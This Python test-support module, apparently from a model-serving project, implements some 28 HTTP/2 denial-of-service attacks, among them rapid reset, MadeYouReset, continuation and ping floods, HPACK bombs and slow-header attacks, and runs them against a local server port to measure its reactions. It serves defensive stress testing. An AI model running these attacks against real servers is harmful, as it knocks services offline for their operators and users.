# SPDX-License-Identifier: Apache-2.0
"""The known attacks on HTTP/2 servers: ``python -m tests.support.http2_attacks NAME PORT SECONDS``.

Each one goes on for so long, on a new connection whenever the server ends one, from a process of its own. Prints a
JSON object: connections, sent_bytes, reactions.
"""

from __future__ import annotations

import functools
import itertools
import json
import os
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np

from ovms_mp.front.tfs._proto import tensorflow_framework_pb2 as framework
from ovms_mp.front.tfs._proto import tensorflow_serving_pb2 as serving
from tests.support import http2_peer as wire
from tests.support.http2_peer import Attacker, Closed

_SLOW_CONNECTIONS, _SLOW_PACE_S = 200, 0.1
_MANY_CONNECTIONS = 4200  # The limit is 4096.
_MANY_STREAMS = 500
_PATIENCE_S = 1.0  # For the server's last word.


@functools.cache
def predict(name: str, elements: int) -> bytes:
    """A PredictRequest for models ``x`` f32 [1,10] or [-1], as octets."""
    request = serving.PredictRequest()
    request.model_spec.name = name
    tensor = request.inputs["x"]
    tensor.dtype = framework.DT_FLOAT
    for size in (1, 10) if name == "tiny" else (elements,):
        tensor.tensor_shape.dim.add().size = size
    tensor.tensor_content = np.arange(elements, dtype=np.float32).tobytes()
    return request.SerializeToString()


TINY = wire.message(predict("tiny", 10))


@dataclass
class Run:
    """One attack under way."""

    port: int
    until: float
    reactions: Counter[str] = field(default_factory=Counter)
    connections: int = 0
    sent_bytes: int = 0

    def is_over(self) -> bool:
        """Whether it is time to end."""
        return time.monotonic() >= self.until

    def connect(self, greeting: bytes | None = None) -> Attacker:
        """A new connection."""
        self.connections += 1
        return Attacker(self.port, self.reactions, greeting)

    def on_connections(self, attack: Callable[[Run, Attacker], None], greeting: bytes | None = None) -> None:
        """Attack on one connection after the other, each until the server ends it."""
        while not self.is_over():
            attacker = None
            try:
                attacker = self.connect(greeting)
                attack(self, attacker)
            except (Closed, OSError):
                continue
            finally:
                if attacker is not None:
                    self.sent_bytes += attacker.sent_bytes
                    attacker.close()

    def flood(self, octets: bytes, first: bytes = b"") -> None:
        """Send the same frames without end."""

        def attack(run: Run, attacker: Attacker) -> None:
            attacker.send(first)
            piece = octets * max(1, (64 << 10) // len(octets))
            while not run.is_over():
                attacker.send(piece)

        self.on_connections(attack)

    def flood_streams(self, of_stream: Callable[[int], bytes], first: bytes = b"") -> None:
        """Send the frames of one stream after the other."""
        pieces = [
            b"".join(of_stream(stream) for stream in range(start, start + 400, 2))
            for start in range(1, 20_001, 400)
        ]

        def attack(run: Run, attacker: Attacker) -> None:
            attacker.send(first)
            for piece in pieces:
                if run.is_over():
                    return
                attacker.send(piece)
            attacker.listen(_PATIENCE_S)

        self.on_connections(attack)


def rapid_reset(run: Run) -> None:
    """CVE-2023-44487: whole calls, each cancelled at once."""
    run.flood_streams(lambda stream: wire.opening(stream) + wire.data(TINY, stream, end=True) + reset(stream))


def reset(stream: int) -> bytes:
    return wire.frame(3, 0, stream, (8).to_bytes(4, "big"))


def made_you_reset(run: Run) -> None:
    """CVE-2025-8671: whole calls, each followed by what makes the server reset it."""
    run.flood_streams(
        lambda stream: (
            wire.opening(stream) + wire.data(TINY, stream, end=True) + wire.data(b"x", stream, end=True)
            if stream % 4 == 1
            else wire.opening(stream) + wire.window(stream, 0)
        )
    )


def continuation_flood(run: Run) -> None:
    """CVE-2024-27316: a header block that never ends."""
    run.flood(wire.frame(9, 0, 1, b"\0\1a\1b"), wire.frame(1, 0, 1, wire.REQUEST_BLOCK))


def empty_continuations(run: Run) -> None:
    """The same with frames of nothing."""
    run.flood(wire.frame(9, 0, 1), wire.frame(1, 0, 1, wire.REQUEST_BLOCK))


def settings_flood(run: Run) -> None:
    """CVE-2019-9515."""
    run.flood(wire.settings())


def settings_windows(run: Run) -> None:
    """The initial window to and fro, with many streams that it applies to."""
    streams = b"".join(wire.opening(stream) for stream in range(1, 2 * _MANY_STREAMS, 2))
    run.flood(wire.settings(*[(4, 0), (4, 1 << 20)] * 16), streams)


def ping_flood(run: Run) -> None:
    """CVE-2019-9512."""
    run.flood(wire.frame(6, 0, 0, bytes(8)))


def unread_pings(run: Run) -> None:
    """The same by a peer that reads nothing, so answers queue up."""

    def attack(run: Run, attacker: Attacker) -> None:
        while not run.is_over():
            attacker.send(wire.frame(6, 0, 0, bytes(8)) * 3000, within_s=5.0, reads=False)

    run.on_connections(attack)


def empty_data(run: Run) -> None:
    """CVE-2019-9518."""
    run.flood(wire.data(b"", 1), wire.opening(1))


def padded_data(run: Run) -> None:
    """The same with padding, as large as it may be, in place of nothing."""
    run.flood(wire.frame(0, 8, 1, b"\xff" + bytes(255)), wire.opening(1))


def nameless_headers(run: Run) -> None:
    """CVE-2019-9516: headers of no length."""
    run.flood_streams(lambda stream: wire.opening(stream, fields=wire.REQUEST_BLOCK + b"\0\0\0" * 500))


def window_update_flood(run: Run) -> None:
    """Window updates of the connection, by 1."""
    run.flood(wire.window(0, 1))


def priority_churn(run: Run) -> None:
    """CVE-2019-9513: priorities change all the time."""
    run.flood(wire.frame(2, 0, 3, (1).to_bytes(4, "big") + b"\x10") + wire.frame(2, 0, 5, bytes(5)))


def unknown_frames(run: Run) -> None:
    """Frames of types that nobody knows."""
    run.flood(wire.frame(0xEE, 0, 1, b""))


def data_dribble(run: Run) -> None:
    """CVE-2019-9511: large answers on many streams, each read an octet at a time."""
    body = wire.message(predict("id_f32", 1000))
    streams = b"".join(
        wire.opening(stream) + wire.data(body, stream, end=True) for stream in range(1, 2 * _MANY_STREAMS, 2)
    )

    def attack(run: Run, attacker: Attacker) -> None:
        attacker.send(streams + wire.window(0, 1 << 30))
        attacker.listen(0.5)
        turns = itertools.cycle(range(1, 2 * _MANY_STREAMS, 2))
        while not run.is_over():
            attacker.send(b"".join(wire.window(next(turns), 1) for _ in range(200)))

    run.on_connections(attack, wire.settings((4, 0)))


def zero_window(run: Run) -> None:
    """Large answers that are never read: the window stays shut."""
    body = wire.message(predict("id_f32", 200_000))

    def attack(run: Run, attacker: Attacker) -> None:
        for stream in range(1, 2 * _MANY_STREAMS, 2):
            pieces = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
            attacker.send(wire.opening(stream) + b"".join(wire.data(piece, stream) for piece in pieces))
            attacker.send(wire.data(b"", stream, end=True))
            if run.is_over():
                return
        while not run.is_over():
            attacker.listen(0.2)

    run.on_connections(attack, wire.settings((4, 0)))


def internal_buffering(run: Run) -> None:
    """CVE-2019-9517: windows are open, but the socket is not read."""
    body = wire.message(predict("id_f32", 200_000))

    def attack(run: Run, attacker: Attacker) -> None:
        attacker.send(wire.window(0, (1 << 31) - 1 - 65_535))
        for stream in itertools.count(1, 2):
            pieces = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
            octets = wire.opening(stream) + b"".join(wire.data(piece, stream) for piece in pieces)
            attacker.send(octets + wire.data(b"", stream, end=True), within_s=60.0, reads=False)
            if run.is_over():
                return

    run.on_connections(attack, wire.settings((4, (1 << 31) - 1)))


def _slowly(run: Run, octets: bytes, first: bytes = b"") -> None:
    """Send an octet now and then, on many connections."""
    attackers = [run.connect() for _ in range(_SLOW_CONNECTIONS)]
    for attacker in attackers:
        attacker.send(first)
    at = 0
    while not run.is_over():
        started = time.monotonic()
        for attacker in list(attackers):
            try:
                attacker.send(octets[at % len(octets) : at % len(octets) + 1])
            except Closed:
                attackers.remove(attacker)
                attacker.close()
        at += 1
        pause_s = _SLOW_PACE_S - (time.monotonic() - started)
        if pause_s > 0 and attackers:
            attackers[0].listen(pause_s)
    for attacker in attackers:
        attacker.close()


def slow_headers(run: Run) -> None:
    """Headers an octet at a time on many connections."""
    _slowly(run, wire.opening(1, fields=wire.REQUEST_BLOCK + b"\0\1a\1b" * 1000))


def slow_body(run: Run) -> None:
    """A message an octet at a time on many connections."""
    _slowly(run, wire.data(b"\0", 1), wire.opening(1) + wire.data(wire.message(b"", 1000), 1))


def arena_hoarding(run: Run) -> None:
    """Begins of messages that say how large they will be; the rest never comes."""

    def attack(run: Run, attacker: Attacker) -> None:
        for stream in range(1, 2 * _MANY_STREAMS, 2):
            body = predict("id_f32", (16_000_000, 1_000_000, 100_000, 10_000)[stream // 250])
            attacker.send(wire.opening(stream) + wire.data(wire.message(body[:200], len(body)), stream))
        while not run.is_over():
            attacker.listen(0.2)

    run.on_connections(attack)


def many_connections(run: Run) -> None:
    """More connections than there may be, all idle."""
    attackers: list[Attacker] = []
    while not run.is_over():
        if len(attackers) < _MANY_CONNECTIONS:
            try:
                attackers.append(run.connect())
            except (OSError, Closed):
                run.reactions["not connected"] += 1
        else:
            attackers[0].listen(0.2)
    for attacker in attackers:
        try:
            attacker.take()
        except Closed:
            pass
        attacker.close()


def connection_churn(run: Run) -> None:
    """Connections that come and go."""
    run.on_connections(lambda _run, _attacker: None)


def long_header_lists(run: Run) -> None:
    """60 KiB of headers in each call."""
    fields = wire.block(wire.request_fields(extra=[(f"x-{number}", "v" * 3000) for number in range(19)]))
    parts = [fields[at : at + 16_384] for at in range(0, len(fields), 16_384)]

    def of_stream(stream: int) -> bytes:
        frames = [
            wire.frame(9 if index else 1, 0x4 if index == len(parts) - 1 else 0, stream, part)
            for index, part in enumerate(parts)
        ]
        frames[0] = frames[0][:4] + bytes((frames[0][4] | 1,)) + frames[0][5:]
        return b"".join(frames)

    run.flood_streams(of_stream)


def hpack_bomb(run: Run) -> None:
    """A long value once, named by one octet thousands of times."""
    insert = wire.literal("x", "v" * 3900, 0x40)
    first = wire.opening(1, end=True, fields=wire.REQUEST_BLOCK + insert)
    run.flood_streams(
        lambda stream: wire.opening(stream + 2, fields=wire.REQUEST_BLOCK + b"\xbe" * 10_000), first
    )


def patient_hpack_bomb(run: Run) -> None:
    """The same, below the limit of a block."""
    insert = wire.literal("x", "v" * 3900, 0x40)
    first = wire.opening(1, end=True, fields=wire.REQUEST_BLOCK + insert)
    run.flood_streams(
        lambda stream: wire.opening(stream + 2, end=True, fields=wire.REQUEST_BLOCK + b"\xbe" * 15), first
    )


def hpack_size_updates(run: Run) -> None:
    """Blocks of nothing but table size updates, an octet each, in front of a request."""
    block = b"\x20" * 60_000 + wire.REQUEST_BLOCK
    parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    run.flood_streams(
        lambda stream: b"".join(
            wire.frame(9 if index else 1, 4 * (part is parts[-1]) + (not index), stream, part)
            for index, part in enumerate(parts)
        )
    )


def few_size_updates(run: Run) -> None:
    """As many size updates as there may be, in each block, so that nothing can be remembered."""
    run.flood_streams(
        lambda stream: wire.opening(stream, end=True, fields=b"\x20\x3f\xe1\x1f" + wire.REQUEST_BLOCK)
    )


def table_churn(run: Run) -> None:
    """Blocks that differ each time and fill the dynamic table anew, so nothing can be remembered."""
    run.flood_streams(
        lambda stream: wire.opening(
            stream,
            end=True,
            fields=b"".join(wire.literal(f"x{stream}-{n}", "", 0x40) for n in range(100))
            + wire.REQUEST_BLOCK,
        )
    )


ATTACKS: dict[str, Callable[[Run], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, made_you_reset, continuation_flood, empty_continuations, settings_flood, settings_windows,
        ping_flood, unread_pings, empty_data, padded_data, nameless_headers, window_update_flood, priority_churn,
        unknown_frames, data_dribble, zero_window, internal_buffering, slow_headers, slow_body, arena_hoarding,
        many_connections, connection_churn, long_header_lists, hpack_bomb, patient_hpack_bomb, table_churn,
        hpack_size_updates, few_size_updates,
    )
}  # fmt: skip


def main(name: str, port: int, seconds: float) -> None:
    """Run an attack and say what came of it."""
    # An attacker on another machine would not take the server's cores; a nice one still does, for milliseconds at once.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    run = Run(port, time.monotonic() + seconds)
    ATTACKS[name](run)
    json.dump(
        {"connections": run.connections, "sent_bytes": run.sent_bytes, "reactions": run.reactions}, sys.stdout
    )


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
